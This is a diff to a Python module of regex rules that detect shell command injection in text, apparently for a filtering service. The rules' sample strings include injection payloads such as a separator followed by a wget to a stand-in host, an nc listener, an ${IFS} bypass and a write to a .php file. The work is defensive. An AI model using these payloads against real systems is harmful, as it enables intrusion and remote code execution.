@@ -1,56 +1,55 @@
-"""Code injection into a shell: commands behind a separator, command lines, expansions, and the marks they need."""
+"""Code injection into a Unix shell: commands behind a separator, command lines, expansions, and probing marks.
+
+A command is a name in a place where a shell expects one (the start, or behind ``;``, ``|``, ``&``, ``$(``, a backtick)
+and something behind it that only a shell reads: an option, a path, a redirection, the end of the text.
+"""
 
 from __future__ import annotations
 
+from service.stages.suspicion_rules.names import ENGLISH_PROGRAMS, PROGRAMS, WINDOWS_PROGRAMS, any_of
 from service.stages.suspicion_rules.rule import Rule
 
-# Programs whose names are no English words, and those whose names are.
-_PROGRAM = (
-    r"(?:ansible[a-z-]{0,10}|aspell|[a-z]{0,2}awk|base(?:32|58|64|nc)|busctl|busybox|bz?ip2|b[zs]?cat|bpftrace|byebug"
-    r"|c[89]9|capsh|certbot|chgrp"
-    r"|chmod|chown|chroot|chef-client|choom|cobc|cpio|cpulimit|crontab|csplit|csvtool|cupsfilter|dmesg|dmidecode"
-    r"|dmsetup|dos(?:2unix|box)"
-    r"|dpkg|dvips|easy_install|[efz]?grep|exiftool|facter|flock|fping|[ag]?cc|gcore|gdb|genisoimage|ghci?|ginsh"
-    r"|gunzip|gzip|gtester|hexdump|hping3|htop"
-    r"|iconv|iftop|i[fp]config|ionice|irb|iw[rm]i?|ispell|jjs|journalctl|jrunscript|ksh|ksshell|ldconfig|loginctl"
-    r"|logsave|lsof|ltrace|lua(?:la)?tex"
-    r"|lwp-[a-z]{4,8}|lynx|lz4c?|lz(?:ma|cat|less|diff)|mkdir|mkfifo|mktemp|mlocate|mtr|msg(?:attrib|cat|conv|filter"
-    r"|merge|uniq)|nano|nasm|ncat|neofetch|netsh"
-    r"|netstat|nmap|nohup|nroff|nsenter|nslookup|openssl|openvpn|opkg|pdb|(?:pdf|xe|la)(?:la)?tex|perf|pft?p|pico"
-    r"|pidstat|pip[3x]?|pkexec|podman|printenv|printf"
-    r"|psftp|psql|ptx|puppet|pwd|r?bash|readelf|redcarpet|restic|rexec|rlogin|rlwrap|rmdir|rmt[a-z-]{0,5}|rpm(?:db"
-    r"|query|verify)?|rsync|run-(?:mailcap|parts)"
-    r"|r?view|r?vim(?:diff)?|scanmem|scp|setarch|s?ftp|shuf|slsh|smbclient|socat|soelim|sqlite3|ssh(?:-[a-z]{3,9}"
-    r"|pass)?|start-stop-daemon|stdbuf|strace|sudo"
-    r"|sysctl|sysinfo|systemctl|systeminfo|taskset|tasklist|tasksh|tclsh|tcpdump|telnet|tftp|timedatectl|tmate|tmux"
-    r"|torify|traceroute|tracert|troff|tshark"
-    r"|ulimit|umask|uname|uncompress|unexpand|uniq|unlz(?:ma|4)|unpigz|unrar|unset|unxz|unzip|unzstd"
-    r"|update-alternatives|user(?:add|del|mod)|uu(?:de|en)code|valgrind"
-    r"|vi|vigr|vipw|virsh|w3m|wget|whiptail|whoami|whois|wireshark|wmic|xargs|xdotool|xelatex|xmodmap|xterm|xxd"
-    r"|xz(?:cat|diff|less|more)?|z(?:athura|cat|diff|less|more"
-    r"|run|sh|soelim)|zstd(?:cat|less)?|zypper|certutil|bitsadmin|mshta|regsvr32|rundll32|schtasks|cscript|wscript"
-    r"|ifup|nft|iptables|lsb_release|mosquitto|gimp|octave)"
+_PROGRAM = any_of(f"{PROGRAMS} {WINDOWS_PROGRAMS}")
+_ENGLISH_PROGRAM = any_of(ENGLISH_PROGRAMS)
+# Names so short and so common in attacks that they need no argument behind a separator.
+_SHORT = any_of("cat cp date df dir echo env id ipconfig ln ls mv nc net ping ps pwd rm set sh time type ver wc who")
+_INTERPRETER = any_of("bash cat curl id java ls nc node perl php ps python python2 python3 ruby sh su who")
+_INSTALLER = any_of("""
+    ansible ansible-config ansible-doc ansible-galaxy ansible-inventory ansible-playbook ansible-vault apk apt
+    apt-get brew cargo composer dnf docker docker-compose gem git go helm kubectl npm opkg pacman pip pip2 pip3 pipx
+    pkg podman snap systemctl terraform yarn yum zypper
+""")
+_VERB = any_of("""
+    add apply build checkout clone commit config create delete deploy diff disable dump enable exec get images info
+    inspect install kill list log logs ps pull push reload remove restart rm run search show start status stop
+    uninstall update upgrade
+""")
+_FOLDER = r"(?:[./~][a-z0-9_./-]{0,30}/)?"
+_NETWORK = any_of("""
+    curl dig ftp host lftp nc ncat netcat nslookup ping rsync scp sftp ssh telnet tftp traceroute wget whois
+""")
+_SEPARATOR = r"(?:[;|`\n]|&&|\$\(|<\(|[\"'] ?&|[0-9]&|^& ?)"
+_SCRIPT = (
+    r"(?:sh|py|pl|rb|ps1|ya?ml|lua|php|jar|gz|tgz|zip|tar|bz2|xz|7z|log|conf|cfg|ini|sql|bak|pem|key|db|so|exe|txt)"
 )
-_ENGLISH_PROGRAM = (
-    r"(?:alias|apt(?:-get)?|ar|arp|at|bash|bundler?|c?sh|cat|cmp|comm|column|composer|cowsay|cp|cpan|crash|curl|cut"
-    r"|dash|date|dd|df|dialog|diff|dig|dir|dnf|docker"
-    r"|du|eb|ed|emacs|env|ex|echo|expand|expect|export|fetch|file|find|finger|fish|fold|gem|git|go|head|host|hostname"
-    r"|id|iex|install|ip|jobs|join|jq|kill|knife|last"
-    r"|less|ln|look|ls|mail|make|man|more|mount|mv|mutt|mysql|nc|net|nice|nl|node|npm|od|paste|perl|php[0-9]?|pic"
-    r"|ping|pr|ps|powershell|python[23]?|rake|rc|rcp|red|reg|rev"
-    r"|rm|route|ruby|screen|script|sed|service|set|sg|shutdown|sleep|snap|sort|split|ss|strings|su|svn|tac|tail|tar"
-    r"|task|tbl|tee|tex|tic|time|timeout|top|touch|type|ul|unlink"
-    r"|vagrant|view|wall|watch|wc|which|who|wish|yarn|yelp|yum|zip)"
+# What only a shell takes behind a command: options, paths, files, redirections, variables, addresses.
+_ARGUMENT = (
+    r"[/\\~](?!r/|u/)[^ ]|%[a-z]|[|;]{1,2}[a-z/]|\| ?(?:sh|bash|tail|head|grep|less|more|wc|sort)\b|[<>] ?[/&]"
+    r"|[<>][a-z]|> [a-z0-9_]{1,20}\.|\$[a-z{(*@!]|\*|\.\.?(?:/|$)|[a-z]:[\\*]|[0-9]{1,3}\.[0-9]{1,3}\."
+    rf"|https?:|[a-z0-9_/*-]{{1,40}}\.{_SCRIPT}(?![a-z0-9])|-[a-z0-9]{{1,2}}(?![a-z])|--[a-z]{{3,20}}(?![a-z-])"
 )
-_SEPARATOR = r"(?:[;|`\n]|&&|\$\(|<\(|[\"'] ?&|[0-9]&|^& ?|^\W{1,4})"
-_FOLDER = r"(?:/[a-z/]{1,20}/)?"
+_FLAG = r" (?:-{1,2}[a-z][a-z0-9-]{0,20}+[ =])?"
+_PLAIN_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT})"
+_LONG_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT}|-[a-z]{{1,6}} )"
+_ANY_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT}|'[^']|[{{\"])"
+
 
 RULES = (
     Rule(
         "code-injection",
         "piped-command",
-        rf"{_SEPARATOR} ?[`\"'({{$]{{0,3}}{_FOLDER}{_PROGRAM}(?:[`\"')}}]{{0,3}}(?:$|[;|`\n#\\&<>$()])|[\"']? [^ ]"
-        rf"|[{{,*+@])",
+        rf"{_SEPARATOR} ?[`\"'({{$]{{0,3}}{_FOLDER}{_PROGRAM}"
+        r"(?:[`\"')}]{0,3}(?:$|[;|`\n#\\&<>$()])|[\"']? [^ ]|[{*+@]|,[-/])",
         "A separator of a shell followed by a program.",
         stops="127.0.0.1; wget http://x.example/a",
         passes="moms & dads; python and ruby developers | R&D",
@@ -58,9 +57,11 @@ RULES = (
     Rule(
         "code-injection",
         "piped-english-command",
-        rf"{_SEPARATOR} ?[`\"'({{]{{0,3}}{_FOLDER}{_ENGLISH_PROGRAM}(?:[`\"')}}]{{1,3}}|[;|`\n#\\&<$]"
-        r"| (?:-|[/\\~%|&;\"'<$!*+.][^ ]|[a-z]:[\\*]|[0-9]{1,3}\.|user |local|https?:|[<>] ?[a-z/])"
-        r"|{,)",
+        rf"{_SEPARATOR} ?[`\"'({{]{{0,3}}{_FOLDER}{_ENGLISH_PROGRAM}"
+        rf"(?:[`\"')}}]{{1,3}}(?![a-z])|[`\n#\\&<$]|{{,|{_LONG_ARGUMENT})"
+        rf"|& ?{_PROGRAM}(?:$| [-/\"'$0-9])|& {_ENGLISH_PROGRAM}{_FLAG}(?:-[a-z]{{1,3}} |[/\\][a-z])|[;"
+        rf"|&`\n] ?{_NETWORK} [a-z0-9.-]{{1,60}}\.[a-z0-9]"
+        rf"|{_SEPARATOR} ?(?:echo|cat|perl|php|python|ruby|exec|export|alias|sh|bash|ls) [\"'$-]",
         "The same with a program whose name is a word: here its arguments must be those of a shell.",
         stops="x; cat ./secret",
         passes="moms & dads; top brands for kids | time savers",
@@ -68,13 +69,11 @@ RULES = (
     Rule(
         "code-injection",
         "piped-short-command",
-        r"(?:[;`\n]|(?:^[^ a-z]{0,3}[a-z]?\)?\||&&|\|\||^\W{0,4}&|\$\() ?)(?:id|ls|ps|dir|pwd|df|ln|mv|rm|cp"
-        r"|wc|sh|nc|cat"
-        r"|ping|echo|type|time|date|set|env|ver|net|who)"
-        r" ?(?:$|[;|&`#\n\\)])|(?:^|[^a-z0-9])(?:ping|traceroute|tracert|telnet|nc|curl|host|dig|ssh"
-        r"|nslookup) (?:-[a-z] ?[0-9]{0,4} )?[0-9]{1,3}(?:\.[0-9]{1,3}){3}"
-        r"|[;|`&(] ?sleep [0-9]|^(?:ls|ps|id|df|du|rm|cp|mv|cat|netstat|uname|who|w|ss|ip) -[a-z]{1,6}(?: |$)"
-        r"|^ps (?:aux|-ef)|^echo [$'\"]",
+        rf"(?:[;`\n]|(?:^[^ a-z]{{0,3}}[a-z]?\)?\||&&|\|\||^\W{{0,4}}&|\$\() ?){_FOLDER}{_SHORT} ?(?:$|[;|&`#\n\\)])"
+        r"|[;|`&(] ?sleep [0-9]|; (?:df|dir|env|ls|ps|pwd|sh)$|^pwd$"
+        r"|^(?:cp|df|dir|echo|env|id|ls|mv|nc|ps|pwd|rm|sh|ver|w|wc) ?[;|&]|[;|][a-z0-9_.]{1,20} (?:-[a-z]|/[a-z]"
+        r"|\$[a-z{(])"
+        r"|\| ?(?:sudo )?(?:(?:ba|z|k|da|c)?sh|python[23]?|perl|ruby|php|node)$",
         "A separator of a shell, then one of its shortest commands and nothing else.",
         stops="a);id",
         passes="hats | id cards; ls 300",
@@ -82,10 +81,9 @@ RULES = (
     Rule(
         "code-injection",
         "leading-separator",
-        rf"^[\"')\]]{{0,3}} ?(?:(?:[;|`]|&&|\$\() ?[\"'$(`]{{0,2}}{_FOLDER}(?:{_PROGRAM}|{_ENGLISH_PROGRAM})"
-        rf"|& ?{_PROGRAM})(?![a-z])"
-        r"|^(?:;|\||&&|`|\|\|)[ '\"]{0,3}[a-z./][a-z0-9_./-]{0,20}['\"]?(?: -|[;|)`'\"&]|$(?<=[;|&][a-z]{2}))|^(?:;"
-        r"|\|)[a-z./-]{2,20} [a-z/-]|^(?:[;|]|\|\||&&) ?$",
+        rf"^[\"')\];|&# ]{{0,4}}(?:[;|`]|&&|\$\() ?[\"'$(`]{{0,2}}{_FOLDER}(?:{_PROGRAM}|{_ENGLISH_PROGRAM})(?![a-z])"
+        rf"|^& ?{_FOLDER}{_PROGRAM}(?![a-z])|^(?:;|\||&&|`|\|\|)[ '\"]{{0,3}}[a-z./][a-z0-9_./-]{{0,30}}['\"]?"
+        r"(?: -|[;|)`'\"&]|$(?<=[;|&][a-z]{2}))|^[;|][a-z./-]{2,20} [a-z/-]",
         "A text that begins with a separator of a shell: what comes next is meant to run.",
         stops=";rmt --version",
         passes="each; every",
@@ -93,68 +91,79 @@ RULES = (
     Rule(
         "code-injection",
         "command-line",
-        rf"(?:^|[^a-z0-9-])(?=[a-z])(?:{_PROGRAM}|{_ENGLISH_PROGRAM}) (?:-{{1,2}}[a-z][a-z-]{{0,12}} )?(?:[/~]\.?[a-z]"
-        rf"|[a-z]:\\|%[a-z]|'[^']|-[a-z]{{1,5}} [^ ])"
-        rf"|^(?:nohup|strace|sudo|xargs|which|time) (?:{_PROGRAM}|sh|id|ls|ps|who)(?: -?[a-z]{{1,12}}){{0,2}}$"
-        rf"|^pip[x3]? install [a-z]|^sleep [0-9]{{1,3}}$|(?:curl|wget) (?:-[a-z] )?https?:"
-        r"|net (?:user|localgroup) [a-z]{1,20} |netsh [a-z]{2,12} set|(?:^|[^a-z])reg add|ping -[a-z] [0-9]",
+        rf"(?:^|[^a-z0-9_.-])(?=[a-z]){_PROGRAM}{_ANY_ARGUMENT}|\{{ ?{_FOLDER}{_PROGRAM}[ }},;]"
+        rf"|^[({{!\"' ]{{1,4}}{_PROGRAM}(?:$|[)}}'\"] ?[^a-z ])|(?:^|[ ;])(?:do|then|else|if"
+        rf"|while) {_FOLDER}{_PROGRAM}(?:$|[; ]-)"
+        r"|^(?:(?:usr|opt)/)?(?:local/)?s?bin/[a-z]|^(?:python|perl|ruby|php|lua|gcc|nc)[0-9.]{1,5} [^ ]"
+        r"|ssh (?:-[a-z] [^ ]{1,20} )?[a-z0-9_.-]{1,20}@[a-z0-9]|^ps aux"
+        rf"|^[\"'(]?{_FOLDER}{_ENGLISH_PROGRAM}[\"']?{_PLAIN_ARGUMENT}"
+        rf"|^[\"'(]?{_FOLDER}{_SHORT} (?:-[a-z]{{1,6}}(?: |$)|'[^']{{1,20}}$|[\"$])"
+        rf"|^{_NETWORK} [a-z0-9-]{{1,60}}\.[a-z0-9./:-]{{2,60}}(?: [0-9]{{1,5}})?$"
+        rf"|^(?:cp|dd|ln|mv|rm|tar|chmod) [^ ]{{1,20}} (?:/|[^ ]{{1,30}}\.{_SCRIPT}$)"
+        r"|^tar -?[a-z]{0,4}f |^su (?:-|root)|^docker run -|^git clone [^ ]{1,60}/|^env [a-z_]{1,20}="
+        rf"|^(?:perl|php|python[23]?|ruby|node|sh|bash|su|env) -[a-z]{{1,3}} ",
         "A command line by itself: a program with arguments that only a shell takes.",
         stops="nc -lvvp 4444",
-        passes="ls 300 lexus, nc 8000 controller, bash/zsh users",
+        passes="ls 300 lexus, nc 8000 controller, watch -women, find /r/gaming readers",
+    ),
+    Rule(
+        "code-injection",
+        "run-by-another",
+        r"^(?:busybox|builtin|chroot|command|cpulimit|doas|env|eval|exec|ionice|ltrace|nice|nohup|setsid|stdbuf|strace"
+        r"|sudo|taskset"
+        r"|time|timeout|type|unshare|valgrind|watch|which|whereis|xargs)(?: [-0-9][^ ]{0,20}+){0,3} "
+        rf"{_FOLDER}(?:{_PROGRAM}|{_INTERPRETER})(?: -?[a-z0-9]{{1,12}}){{0,2}}$"
+        rf"|^{_INSTALLER} {_VERB}(?: [a-z0-9@./_-]{{1,40}}+"
+        r"){0,2}$|^sleep [0-9]{1,5}[smhd]?$|^alias (?:[-+][a-z+]{1,3} ){0,2}[^ =]{1,20}=|^shutdown(?: -[a-z]|$)"
+        r"|; ?(?:done|fi|esac)(?![a-z])|\[\[? -[a-z] |(?:^|[^a-z])for [a-z]{1,8} in .{1,40};|(?:^|[;"
+        r"|&`] ?)\.{1,2}/[a-z0-9_]"
+        r"|^(?:\.|source) [^ ]{0,30}[/.]|^chmod (?:[0-7]{3,4}|[augo]{0,3}[+=-][rwxst])|^find [./~][^ ]{0,30} -"
+        r"|^java -jar"
+        r"|^(?:awk|echo|printf|sed) [\"'{%$\\]|^sed s[/|#,]|^service [a-z0-9-]{1,20} (?:start|stop|restart|status"
+        r"|reload)$"
+        r"|^\( ?(?:cat|id|ls|ps|pwd|who) ?\)$|^(?:cat|echo|id|ls|ps|w|who)(?![a-z0-9_]) ?(?:[^<>|]{0,20}[^ <>"
+        r"|-])? ?[0-9]?[<>]{1,2} ?[&a-z./]"
+        r"|^(?:export|declare|set|unset|local) [a-z_]{1,20}=",
+        "A program that runs or installs another, an alias, or an order that stops the machine.",
+        stops="nohup sh -c id",
+        passes="time travel, which car to buy, sleep 8 hours, git clone wars",
     ),
     Rule(
         "code-injection",
         "telling-command",
-        r"(?:^|[^a-z0-9])(?:whoami|ifconfig|ipconfig|netstat|systeminfo|sysinfo|uname|nslookup|printenv|lsof)(?:$"
-        r"|[;|&`)'\" ])"
-        r"|(?:get|set|new|invoke|start|stop|add|remove|write|out|import|export)-(?:object|item|process|content"
-        r"|webrequest|expression|command|childitem"
-        r"|service|sleep|host|wmimethod|module)(?![a-z])",
-        "A program that tells about the machine it runs on, or an order of PowerShell.",
+        r"(?:^|[^a-z0-9])(?:whoami|[i]fconfig|ipconfig|netstat|systeminfo|sysinfo|uname|nslookup|printenv|lsof"
+        r"|lsb_release"
+        r"|hostnamectl|vmstat|lscpu|getent|tasklist|phpinfo)(?:$|[;|&`)'\" ,])",
+        "A program that tells about the machine it runs on.",
         stops="uname -a",
-        passes="sign-in service, add-on items",
+        passes="names of houses, conflict figures",
     ),
     Rule(
         "code-injection",
         "shell-expansion",
-        r"\$\(|\$\{?ifs|(?:^|[^a-z0-9])`[a-z/{$(]|[a-z]`` ?|[;|&<]\{[^}]|\{,|\(\) ?\{|:\(\)|<<<|<\(|\$\{?(?:cmd|shell"
-        r"|path|home|pwd|oldpwd|hostname|ostype|random|bash[a-z_]{0,12}|env|prompt_command|@|\*|\?|!)(?![a-z0-9])|\$'"
-        r"|(?:^|[ =])~[+-]|![-!][0-9]"
-        r"|[a-z]{2,8}=\$[\"'a-z]|/[a-z]{0,5}[?*\[][a-z?*\[\]]{0,8}/[a-z?*\[]|/\[[a-z]\][a-z]|[0-9]?>&[0-9]|> ?/dev/"
-        r"|\$[a-z]\$[a-z]|(?:^|;)[a-z]{1,3}=[^=; ]{1,10};|[a-z]\{[a-z],[a-z]{1,6}\}|\\!|%0a/",
-        "Substitution, groups and wildcards of a shell.",
+        r"\$\(|\$\{?ifs|(?:^|[^a-z0-9])`[a-z/{$(]|[;|&<]\{[^}]|\{,|\(\) ?\{|:\(\)|<<<|[<>]\((?:\)|[a-z])|\$'"
+        r"|\$\{?(?:cmd|shell|path|home|pwd|oldpwd|hostname|ostype|random|bash[a-z_]{0,12}|env|uid|user|term|ps[124]"
+        r"|prompt_command|@|\*|\?|!)(?![a-z0-9])|(?:^|[ =])~[+-]|(?:^|[ ;|&])!(?:-?[0-9]|!(?!!)|\$|\?)"
+        r"|[a-z]{2,8}=\$[\"'a-z]"
+        r"|/[a-z]{0,5}[?*\[][a-z?*\[\]]{0,8}/[a-z?*\[]|/[a-z/]{0,12}\[[a-z^!-]{1,3}\][a-z]{0,8}(?:[ /]|$)|[0-9]?>&[0-9]"
+        r"|> ?/dev/"
+        r"|(?:^|;)[a-z]{1,8}=[^=; ]{1,20};.{0,40}\$|\{[^{}:\" ]{0,40},[^{}:\" ]{0,40}\}|/[a-z]{0,10}\$[a-z]"
+        r"|\$\{[a-z0-9_]{1,20}(?:/|%|#|\^|,|:[-=?+0-9])"
+        r"|\$[a-z]{1,3}/",
+        "Substitution, groups, history and wildcards of a shell.",
         stops="cat${IFS}x",
-        passes="$150k+ households & {kids}, didn`t",
-    ),
-    Rule(
-        "code-injection",
-        "punctuation",
-        r"(?!(?P<mark>.)(?P=mark){2})(?![\"()\[\]{}]{3})['\"();<>|`{}\[\]\\^]{3}(?<![(<]3\))"
-        r"|^[^a-z0-9à-￿]{0,40}['\"`\\{}|][^a-z0-9à-￿]{0,40}$"
-        r"|(?:^|[^a-z])\\[a-z]{1,2}(?![a-z])|(?:^|[^a-z])\\[a-z][^ ]{0,20}\\|\{[^{}]{0,60}[;$|&`(]",
-        "Marks of several languages in a row, escapes, or a text of nothing else: a probe for what breaks.",
-        stops="(['x'])",
-        passes="black\\white (hats), toys... :) {kids}",
+        passes="$150k+ households & {kids}, didn`t, wow!",
     ),
     Rule(
         "code-injection",
         "shell-redirection",
-        r"> ?[a-z0-9_]{1,12}\.(?:php|sh|txt|jsp|aspx?)|[\"')] ?\|\|? ?[a-z/]{2,20}\|?$|[;\n\"'] ?\. ?\\?[\"']?shell\b",
-        "Output into a file, or a chain of commands that goes on.",
+        r"> ?[a-z0-9_/.-]{1,40}\.(?:php|sh|txt|jsp|aspx?|log|html)(?![a-z0-9])(?! visitors)"
+        r"|[\"')] ?\|\|? ?[a-z/]{2,20}\|?$"
+        r"|(?:^|[;\n\"' ])\. ?\\?[\"']?(?:shell|system)\b|^\.(?:import|read|open|output|once|load|dump|excel|backup"
+        r"|restore) |\bbin/(?:(?:ba|z|k|c|da|tc)?sh|cat|ls|id|nc|perl"
+        r"|python[23]?)\b|/dev/(?:null|tcp|udp|std)",
+        "Output into a file, a shell by its path, or a chain of commands that goes on.",
         stops="echo x > rfi.php",
         passes="interest > php.net visitors",
-    ),
-    Rule(
-        "code-injection",
-        "batch-syntax",
-        r"(?:^|[^a-z])for (?:/[dflr] )?(?:\"[^\"]{0,30}\" |[a-z]:\\{1,2} "
-        r"|[a-z]:\\[a-z]{1,12}\\? )?%{1,2}[a-z0-9/]{0,8} in ?\(|for /[dflr] "
-        r"|(?:^|[^a-z])if (?:/i )?(?:not )?(?:exist [a-z0-9.\\:]{1,40} (?:\(|[a-z])|defined [a-z]{1,12} ?\("
-        r"|errorlevel [0-9]|[\"\[(%a-z0-9!][^=<>]{0,20}==)"
-        r"|[%\"\])0-9a-z!] (?:equ|neq|lss|leq|gtr|geq) [\"%\[(0-9]|%(?:path|temp|tmp|os|comspec|username"
-        r"|userprofile|programfiles|windir|appdata|errorlevel|cd|variable|var|_prefix)%",
-        "A loop or a condition of the Windows command line.",
-        stops="for /f %a in (text) do abc",
-        passes="cars for 50% in (or near) texas, if any",
     ),
 )
